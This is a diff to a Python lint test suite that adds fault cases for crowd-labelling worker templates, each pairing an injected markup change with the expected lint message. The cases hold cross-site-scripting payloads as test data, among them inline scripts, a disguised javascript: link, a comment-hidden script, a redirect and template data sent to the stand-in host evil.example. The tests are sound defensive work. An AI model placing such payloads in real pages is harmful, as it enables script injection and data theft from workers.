@@ -365,6 +365,77 @@ FAULTS: dict[str, tuple[Any, Fault, str]] = {
         in_file(PAGE, "</crowd-bounding-box>", "{%- liquid\n  echo task.input.header\n%}</crowd-bounding-box>"),
         "the tag liquid prints what this lint does not look at",
     ),
+    "worker template whose escaping is undone by a filter": (
+        worker_templates,
+        in_file(PAGE, "task.input.header | escape", "task.input.header | escape | replace: '&lt;', '<' | escape"),
+        "escape once, at the end",
+    ),
+    "worker template with a value in a handler": (
+        worker_templates,
+        in_file(PAGE, "<crowd-form>", "<crowd-form onclick=\"f('{{ task.input.header | escape }}')\">"),
+        "has the attribute onclick",
+    ),
+    "worker template with a value as an address": (
+        worker_templates,
+        in_file(PAGE, "</crowd-form>", '<a href="{{ task.input.header | escape }}">more</a></crowd-form>'),
+        "only | grant_read_access may fill it, alone",
+    ),
+    "worker template with a value in an address": (
+        worker_templates,
+        in_file(PAGE, 'src="{{ task.input.taskObject', 'src="//evil.example/{{ task.input.taskObject'),
+        "stands in a tag without quotes",
+    ),
+    "worker template with a signed address as a text": (
+        worker_templates,
+        in_file(PAGE, "task.input.header | escape", "task.input.header | grant_read_access"),
+        "stands in an attribute: end it with | escape",
+    ),
+    "worker template with a frame": (
+        worker_templates,
+        in_file(PAGE, "</crowd-form>", '<iframe srcdoc="{{ task.input.header | escape }}"></iframe></crowd-form>'),
+        "<iframe> has no place in a worker template",
+    ),
+    "worker template that hides a script behind a comment": (
+        worker_templates,
+        in_file(
+            PAGE,
+            "</crowd-form>",
+            '<!-- <a title=" --><script>f("{{ task.input.header | escape }}")</script><!-- "> --></crowd-form>',
+        ),
+        "has an HTML comment",
+    ),
+    "worker template that hides a script behind a title": (
+        worker_templates,
+        in_file(
+            PAGE, "</crowd-form>", '<title><a b="</title><i c="{{ task.input.header | escape }}"></i></crowd-form>'
+        ),
+        "<title> has no place",
+    ),
+    "worker template with the crowd elements of somebody else": (
+        worker_templates,
+        in_file(PAGE, "https://assets.crowd.aws/", "https://evil.example/"),
+        "runs a script of its own",
+    ),
+    "worker template with a script": (
+        worker_templates,
+        in_file(PAGE, "<crowd-form>", "<script>alert(1)</script><crowd-form>"),
+        "runs a script of its own",
+    ),
+    "worker template with an address that is a script": (
+        worker_templates,
+        in_file(PAGE, "</crowd-form>", '<a href=" java&#115;cript:alert(1)">x</a></crowd-form>'),
+        "has a script as its href",
+    ),
+    "worker template that leaves the page": (
+        worker_templates,
+        in_file(PAGE, "</crowd-form>", "<meta http-equiv=refresh content='0;url=//evil.example'></crowd-form>"),
+        "<meta> has no place",
+    ),
+    "worker template with a value in a tag that does not end": (
+        worker_templates,
+        in_file(PAGE, "</crowd-form>", '</crowd-form><a title="{{ task.input.header | escape }}"'),
+        "in a tag that does not end",
+    ),
     "worker template without a form": (
         worker_templates,
         in_file(PAGE, "<crowd-form>", "<form>"),
